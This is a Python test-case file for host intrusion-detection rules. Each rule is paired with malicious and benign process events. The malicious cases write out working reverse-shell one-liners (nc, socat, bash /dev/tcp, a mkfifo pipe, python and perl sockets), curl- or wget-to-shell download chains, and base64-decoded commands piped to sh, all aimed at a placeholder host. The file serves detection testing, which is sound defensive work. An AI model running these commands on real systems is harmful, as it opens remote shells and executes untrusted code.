from made_events import call, mode, started
from rule_cases import Cases

__all__ = ["CASES"]

_SOCKET = {"fd.type": "ipv4", "fd.name": "10.0.0.2:4000->10.0.0.9:443"}
_PIPED = {"proc.stdin.type": "pipe"}
_PIPING = {"proc.stdout.type": "pipe"}
_RWX = {"evt.arg.prot": "PROT_READ|PROT_WRITE|PROT_EXEC"}

CASES: Cases = {
    "Program run from memory": (
        [
            started("x", exe="/memfd:x (deleted)", event={"proc.is_exe_from_memfd": True}),
            started("x", exe="/tmp/x (deleted)"),
        ],
        [
            started("true"),
            started(
                "runc init", exe="/memfd:runc_cloned:/proc/self/exe (deleted)", parents="runc containerd-shim"
            ),
        ],
    ),
    "Shell connected to the network": (
        [
            call("dup2", "python3 x.py", 2, event=_SOCKET),
            call("dup2", "/tmp/x", 0, event=_SOCKET),
            call("dup3", "bash", 1, event=_SOCKET, exe="/usr/bin/bash"),
        ],
        [
            call("dup2", "python3 x.py", 7, event=_SOCKET),
            [call("dup2", "python3 server.py", number, event=_SOCKET) for number in (0, 1)],
            call("dup2", "python3 x.py", 0, event={"fd.type": "pipe"}),
            call("dup2", "sshd", 0, event=_SOCKET),
            call("dup2", "systemd", 0, event=_SOCKET, exe="/usr/lib/systemd/systemd-executor"),
        ],
    ),
    "Shell started on a socket": (
        [
            started("sh", event={"proc.stdin.type": "ipv4", "proc.stdout.type": "ipv4"}),
            started("dd", event={"proc.stdin.type": "ipv4"}, exe="/tmp/dd"),
            started(
                "bash -i", event={"proc.stdin.type": "unix", "proc.stdout.type": "unix"}, parents="socat bash"
            ),
        ],
        [
            started(
                "bash", event={"proc.stdin.type": "unix", "proc.stdout.type": "unix"}, parents="sshd sshd"
            ),
            started("bash deploy.sh", event={"proc.stdin.type": "unix", "proc.stdout.type": "pipe"}),
            started("bash", event={"proc.stdin.type": "file"}),
            started("cat /etc/hostname", event={"proc.stdin.type": "ipv4", "proc.stdout.type": "ipv4"}),
        ],
    ),
    "Shell run by a network tool": (
        [
            started("nc -e /bin/sh 10.0.0.9 443"),
            started("socat TCP:10.0.0.9:443 EXEC:/bin/sh"),
            started("bash -c bash -i >& /dev/tcp/10.0.0.9/443 0>&1"),
            started("sh -c rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.9 443 > /tmp/f"),
        ],
        [
            started("nc -zv localhost 5432"),
            started("socat TCP-LISTEN:8080,fork TCP:localhost:80"),
            started("timeout 1 bash -c </dev/tcp/localhost/5432", exe="/usr/bin/timeout"),
            started("bash -c </dev/tcp/localhost/5432"),
        ],
    ),
    "Remote shell written on a command line": (
        [
            started(
                "python3 -c import socket,os;s=socket.socket();s.connect(('10.0.0.9',443));os.dup2(s.fileno(),0)",
            ),
            started("perl -e use Socket;socket(S,2,1,6);connect(S,x);exec {'/bin/sh'} '-i';"),
        ],
        [
            started("python3 -c import socket; print(socket.gethostname())"),
            started("python3 -c import subprocess; subprocess.run(['/bin/sh'])"),
            started("python3 -c import socket,subprocess;s.bind(x);subprocess.Popen([sys.executable,x])"),
        ],
    ),
    "Pipe to the network around a shell": (
        [
            started(
                "nc 10.0.0.9 443",
                event={"proc.stdin.type": "pipe", "proc.stdout.type": "pipe", "proc.stdout.name": "/tmp/f"},
            )
        ],
        [
            started(
                "nc 10.0.0.9 9100",
                event={
                    "proc.stdin.type": "pipe",
                    "proc.stdout.type": "pipe",
                    "proc.stdout.name": "pipe:[71]",
                },
            )
        ],
    ),
    "Terminal made for a remote shell": (
        [started("python3 -c import pty; pty.spawn('/bin/bash')"), started("script -qc /bin/bash /dev/null")],
        [started("python3 run.py"), started("script -c make build.log")],
    ),
    "Program run from shared memory or a runtime directory": (
        [started("x", exe="/dev/shm/x"), started("x", exe="/run/user/1000/x")],
        [started("x", exe="/dev/shm/build/x", parents="make bash"), started("ls")],
    ),
    "Hidden program run from a temporary directory": (
        [started("u", exe="/tmp/.cache/u"), started(".x", exe="/var/tmp/.x")],
        [
            started("app", exe="/tmp/.mount_appX1/usr/bin/app"),
            started("conftest", exe="/tmp/build/conftest", parents="configure make"),
            started("test", exe="/tmp/.tmpAbCdEf/test", parents="cargo bash"),
        ],
    ),
    "Hidden script run from a temporary directory": (
        [started("bash /tmp/.x/run.sh"), started("python3 /dev/shm/a.py")],
        [
            started("bash /tmp/install.sh"),
            started("bash -c ls /tmp/.X11-unix"),
            started("bash /tmp/.mount_app/AppRun"),
        ],
    ),
    "Downloaded program made executable and run": (
        [
            [
                started("curl -o /tmp/tool http://10.0.0.9/tool", parents="sh bash"),
                mode("/tmp/tool", "S_IRUSR|S_IXUSR|S_IXOTH", "chmod +x /tmp/tool", parents="sh bash"),
                started("tool", exe="/tmp/tool", parents="sh bash"),
            ]
        ],
        [
            [
                started("curl --version", parents="sh bash"),
                mode("/tmp/tool", "S_IRUSR|S_IXUSR", "chmod +x /tmp/tool", parents="sh bash"),
                started("tool", exe="/tmp/tool", parents="sh bash"),
            ],
            [
                started("curl -o /tmp/data.json http://example.org/", parents="sh bash"),
                started("jq . /tmp/data.json", parents="sh bash"),
            ],
            [
                started("wget http://example.org/x.tar.gz", parents="sh bash"),
                mode("/usr/local/bin/x", "S_IXUSR", "chmod +x /usr/local/bin/x", parents="sh bash"),
                started("x", exe="/usr/local/bin/x", parents="sh bash"),
            ],
        ],
    ),
    "Download piped into a shell": (
        [[started("curl -s http://10.0.0.9/x", event=_PIPING), started("bash", event=_PIPED)]],
        [
            [started("curl -s http://10.0.0.9/x", event=_PIPING), started("grep x", event=_PIPED)],
            [started("curl -s http://10.0.0.9/x", event=_PIPING), started("python3 parse.py", event=_PIPED)],
        ],
    ),
    "Shell waits for a download": (
        [[started("sh", event=_PIPED), started("wget -qO- http://10.0.0.9/x", event=_PIPING)]],
        [[started("sh run.sh", event=_PIPED), started("wget -q http://10.0.0.9/x")]],
    ),
    "Fetched text run as a command": (
        [
            [
                started("curl -s http://10.0.0.9/x", event=_PIPING),
                started("sh -c id; true", event={"proc.cmdlenargs": 10}),
            ]
        ],
        [
            [started("curl -s http://10.0.0.9/x"), started("sh -c id; true", event={"proc.cmdlenargs": 10})],
            [started("curl -s http://10.0.0.9/x", event=_PIPING), started("sh install.sh")],
        ],
    ),
    "Interactive shell without a terminal": (
        [started("sh -i", event=_PIPED, parents="node bash")],
        [
            started("sh -i", event=_PIPED | {"proc.tty": 34816}),
            started("bash -i", event={"proc.stdin.type": "file"}),
            started("bash run.sh", event=_PIPED),
        ],
    ),
    "Encoded command run": (
        [
            started("sh -c echo aWQ= | base64 -d | sh"),
            started("python3 -c exec(__import__('base64').b64decode('cHJpbnQoMSk='))"),
        ],
        [
            started("sh -c base64 -d cert.b64 > cert.der"),
            started("python3 -c import base64; base64.b64decode('aWQ=')"),
        ],
    ),
    "Shell run by a web server": (
        [
            started("sh -c id", parents="nginx", uid=33, user="www-data"),
            started("bash -i", parents="php-fpm8.2", uid=33, user="www-data"),
        ],
        [started("sh /usr/sbin/apachectl graceful", parents="apache2"), started("sh -c id", parents="bash")],
    ),
    "Shell run by a database": (
        [
            started("sh -c id", parents="postgres postgres", uid=110, user="postgres"),
            started("bash", parents="redis-server"),
        ],
        [
            started("sh -c cp pg_wal/1 /archive/1", parents="postgres", uid=110, user="postgres"),
            started("sh x", parents="psql"),
        ],
    ),
    "Compiler run by a service": (
        [started("gcc x.c -o x", uid=33, user="www-data")],
        [started("gcc x.c -o x", uid=1000)],
    ),
    "Scheduled job runs from a temporary directory": (
        [
            started("job", exe="/tmp/job", parents="sh cron"),
            started("sh -c curl -s http://10.0.0.9/x | sh", parents="cron"),
        ],
        [
            started("sh -c run-parts /etc/cron.daily", parents="cron"),
            started("sh -c /opt/backup > /tmp/backup.log", parents="cron"),
            started("job", exe="/tmp/job", parents="bash sshd"),
        ],
    ),
    "Program run by the dynamic loader": (
        [started("ld-linux-x86-64.so.2 /tmp/x", exe="/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2")],
        [
            started(
                "ld-linux-x86-64.so.2 --verify /tmp/x",
                exe="/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
                parents="ldd",
            ),
            started("ld-linux-x86-64.so.2 /usr/bin/ls", exe="/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"),
        ],
    ),
    "Writable and executable memory in a temporary program": (
        [call("mmap", "x", 4096, event=_RWX, exe="/tmp/x")],
        [
            call("mmap", "node server.js", 4096, event=_RWX),
            call("mprotect", "x", 0, event={"evt.arg.prot": "PROT_READ|PROT_EXEC"}, exe="/tmp/x"),
        ],
    ),
    "Unusual behaviour": (
        [call("window", "nginx", event={"anomaly.score": 72.5, "anomaly.reason": "new calls: ptrace"})],
        [call("window", "nginx", event={"anomaly.score": 20}), call("window", "nginx")],
    ),
}
